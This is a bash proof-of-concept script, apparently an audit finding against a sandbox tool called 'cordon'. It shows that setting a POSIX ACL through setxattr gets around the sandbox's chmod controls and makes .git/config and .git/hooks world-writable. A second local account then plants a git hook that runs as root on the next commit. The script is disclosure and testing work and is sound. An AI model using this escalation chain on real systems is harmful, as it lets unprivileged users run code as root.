#!/bin/bash
# Finding (class 8 inside the writable roots, and b): the gate decides chmod, but not setxattr, and a
# POSIX ACL (setxattr "system.posix_acl_access") sets the group and other mode bits. From inside, the
# protected .git/config, .vscode/tasks.json, ~/.bashrc (HOME as workdir), HOME itself, .git and
# .git/hooks become mode 0777; plain chmod 777 on .git and .git/hooks is not refused either (the git
# rules keep hooks/ from changing, not its mode). Any other local account (a service user, another
# tenant, a CI job) then plants a hook or an fsmonitor, and the owner's next git command runs it. As root
# inside, that is an unprivileged user's code run as root.
# Usage: CORDON=... findings/mode-by-acl.sh   (as root; the second account is `attacker`)
set -u
CORDON=${CORDON:-$(pwd)/build/cordon}
id attacker >/dev/null 2>&1 || useradd -m -s /bin/bash attacker
B=$(mktemp -d /var/tmp/atk.XXXXXX); chmod 755 "$B"; export HOME=$B/home; mkdir -p "$HOME"; W=$B/w; mkdir -p "$W"
git -C "$W" init -q; git config --global user.email a@b; git config --global user.name a
cat > "$W/acl.py" <<'PY'
import os, struct, sys
e = lambda tag, p: struct.pack("<HHI", tag, p, 0xffffffff)
blob = struct.pack("<I", 2) + e(0x01, 7) + e(0x04, 7) + e(0x20, 7)   # user::rwx group::rwx other::rwx
for p in sys.argv[1:]:
    try: os.setxattr(p, "system.posix_acl_access", blob); print("acl", p, oct(os.stat(p).st_mode & 0o777))
    except OSError as err: print("refused", p, err)
PY
cd "$W"
"$CORDON" run -- sh -c 'chmod 777 . .git .git/hooks && echo "chmod 777 . .git .git/hooks: allowed"; python3 acl.py .git/config' 2>&1 | grep -v '^cordon: refused'
ls -ld "$W/.git/hooks" "$W/.git/config"
# another local account, outside any sandbox, now writes root's hook and config
M=$B/MARKER
su attacker -s /bin/sh -c "printf '#!/bin/sh\nid > $M\n' > $W/.git/hooks/pre-commit && chmod 755 $W/.git/hooks/pre-commit && echo 'attacker planted a hook in root'\''s repository'"
git -C "$W" commit -q --allow-empty -m x >/dev/null 2>&1
rc=0; if [ -e "$M" ]; then echo "ESCAPE: root's next git commit ran attacker's hook: $(cat "$M")"; rc=1; else echo held; fi
rm -rf "$B"; exit $rc
